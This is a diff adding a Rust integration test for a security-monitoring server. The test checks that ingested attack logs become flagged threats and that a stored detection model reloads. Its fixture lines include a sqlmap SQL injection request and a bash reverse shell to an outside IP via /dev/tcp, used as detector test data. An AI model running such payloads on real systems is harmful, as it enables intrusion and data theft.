@@ -1,0 +1,128 @@
+//! End to end: ingest over HTTP → the in-process pipeline (bootstrap detector) scores the logs
+//! → threats appear with their explanation; on SQLite and (with `SOC_TEST_PG_URL`) PostgreSQL.
+
+mod common;
+
+use std::time::{Duration, Instant};
+
+use common::{Backend, spawn};
+use serde_json::{Value, json};
+
+async fn ingested_attacks_become_threats(b: Backend) {
+    let s = spawn(b, true).await.unwrap();
+    let (_, _, analyst, agent) = s.tenant("acme").await;
+    let (_, status) = s.get("/api/system/status", &analyst).await;
+    let ai = &status["status"]["ai_agents"];
+    assert_eq!(ai["pipeline_running"], true, "{status}");
+    let version = ai["active_model_version"].as_str().unwrap().to_owned();
+    // The bootstrap model is in the model store under ml_models/global/.
+    let keys = s.state.models.list("ml_models/global/").await.unwrap();
+    assert_eq!(keys, vec![format!("ml_models/global/{version}.cgsoc")]);
+
+    let a = s.agent(&agent, "web-1").await;
+    let benign = [
+        "sshd[2211]: Accepted publickey for alice from 10.0.3.7 port 52144 ssh2: ED25519 SHA256:9f2c",
+        "10.0.0.8 - - \"GET /static/app.js HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Firefox/121.0\"",
+        "systemd[1]: Started Session 812 of user bob.",
+    ];
+    let attacks = [
+        "sshd[4242]: Failed password for invalid user admin from 185.23.4.9 port 40022 ssh2",
+        "185.3.2.1 - - \"GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\" 500 312 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
+        "type=EXECVE msg=audit(1760000000.123:4242): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/45.9.8.7/4444 0>&1\"",
+    ];
+    let logs: Vec<Value> = benign
+        .iter()
+        .chain(attacks.iter())
+        .map(|m| json!({"agent_id": a, "message": m}))
+        .collect();
+    let t0 = Instant::now();
+    let (st, body) = s.post("/api/logs", &agent, Value::Array(logs)).await;
+    assert_eq!(st, 201, "{body}");
+
+    // Detection is woken by ingest: the threats appear well within the 1 s interval fallback
+    // (debug builds are slow, so allow a generous margin).
+    let threats = loop {
+        // Logs first: once they are all scored, their detections are committed too.
+        let (_, logs) = s.get("/api/logs", &analyst).await;
+        let rows = logs["logs"].as_array().unwrap();
+        let all_scored = rows.len() == 6 && rows.iter().all(|l| l["scored"] == true);
+        if all_scored {
+            let (_, list) = s.get("/api/threats", &analyst).await;
+            break list["threats"].as_array().unwrap().clone();
+        }
+        assert!(
+            t0.elapsed() < Duration::from_secs(30),
+            "logs not scored in time"
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    };
+    let lag = t0.elapsed();
+    let flagged: Vec<i64> = threats
+        .iter()
+        .map(|t| t["log_id"].as_i64().unwrap())
+        .collect();
+    let (_, logs) = s.get("/api/logs", &analyst).await;
+    let message_of = |id: i64| {
+        logs["logs"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|l| l["id"] == id)
+            .unwrap()["message"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    let flagged_msgs: Vec<String> = flagged.iter().map(|id| message_of(*id)).collect();
+    for attack in attacks {
+        assert!(
+            flagged_msgs.iter().any(|m| m == attack),
+            "attack not detected: {attack}\nflagged: {flagged_msgs:#?}"
+        );
+    }
+    for ok in benign {
+        assert!(
+            !flagged_msgs.iter().any(|m| m == ok),
+            "benign line flagged: {ok}"
+        );
+    }
+    eprintln!("{b:?}: ingest -> committed detections in {lag:?}");
+    // Threat detail: severity, explanation, the log.
+    let id = threats[0]["id"].as_i64().unwrap();
+    let (st, one) = s.get(&format!("/api/threats/{id}"), &analyst).await;
+    assert_eq!(st, 200);
+    let t = &one["threat"];
+    assert!(t["risk"].as_f64().unwrap() >= 7.0);
+    assert!(["high", "critical"].contains(&t["severity"].as_str().unwrap()));
+    assert_eq!(t["model_version"], version.as_str());
+    assert!(t["explanation"]["top_terms"].is_array(), "{one}");
+    assert!(one["log"]["message"].is_string());
+    let (_, status) = s.get("/api/system/status", &analyst).await;
+    let ai = &status["status"]["ai_agents"];
+    assert_eq!(ai["backlog"], 0);
+    assert!(ai["scored_total"].as_u64().unwrap() >= 6);
+}
+
+async fn restart_loads_the_stored_model(b: Backend) {
+    let s = spawn(b, true).await.unwrap();
+    let first = s.state.pipeline.report().active_model_version.unwrap();
+    // A second server on the same database and model store loads the recorded version.
+    let (_, version) = soc_server::detection::load_or_bootstrap(&s.state)
+        .await
+        .unwrap();
+    assert_eq!(version, first);
+    assert_eq!(
+        s.state
+            .models
+            .list("ml_models/global/")
+            .await
+            .unwrap()
+            .len(),
+        1
+    );
+}
+
+both_backends!(
+    ingested_attacks_become_threats,
+    restart_loads_the_stored_model
+);
